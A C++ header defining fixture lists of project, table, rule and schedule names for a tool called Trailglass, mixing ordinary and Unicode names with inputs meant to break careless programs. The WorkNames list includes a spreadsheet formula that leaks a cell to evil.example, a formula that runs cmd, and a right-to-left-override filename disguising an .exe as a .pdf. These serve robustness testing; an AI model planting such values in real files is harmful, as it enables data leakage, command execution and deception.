// SPDX-FileCopyrightText: Trailglass authors
// SPDX-License-Identifier: MIT

#pragma once

#include <array>

namespace Trailglass::Support {

/// Names of projects, tasks and files: ordinary ones, and those that break careless programs.
inline constexpr std::array<const char *, 24> WorkNames{
    "Website relaunch",
    "Quarterly close",
    "Customer onboarding",
    "Pricing experiment",
    "Data contracts",
    "Office move",
    "Launch plan 🚀",
    "Café crème – coûts d'août",
    "売上ダッシュボード",
    "Über-Größen & Maße",
    "Salary review (confidential)",
    "Incident follow-up",
    "Vendor risk register",
    "Hiring pipeline",
    "Roadmap, H2",
    "The \"real\" budget",
    "Partner API",
    "Churn analysis",
    "Mobile app 4.0",
    "Support backlog",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open me\")", // a spreadsheet would run it
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "invoice_\u202Efdp.exe", // right-to-left override: shows as invoice_exe.pdf
    "Line one\nline two",
};

/// Tables, models and dashboards.
inline constexpr std::array<const char *, 14> DataNames{
    "analytics.orders",   "analytics.customers",  "staging.stg_payments",   "marts.fct_revenue",
    "marts.dim_customer", "raw.stripe_charges",   "raw.events_2026",        "finance.ledger",
    "pii.users",          "pii.addresses",        "Résumé des ventes 2026", "顧客マスター",
    "marts.fct_churn",    "staging.stg_sessions",
};

/// Rules, workflows and datasets of Nected.
inline constexpr std::array<const char *, 10> RuleNames{
    "Refund approval limit",
    "Loyalty tier",
    "Fraud score v3",
    "Shipping fee",
    "Discount \"Black Friday\"",
    "KYC décision",
    "Onboarding quest",
    "Churn offer",
    "與信ルール",
    "Credit limit",
};

/// Scheduled runs of Paradime.
inline constexpr std::array<const char *, 8> ScheduleNames{
    "daily run",      "hourly freshness", "finance close", "full refresh (weekly)",
    "marketing mart", "pii masking",      "Überprüfung",   "ad hoc backfill",
};

} // namespace Trailglass::Support
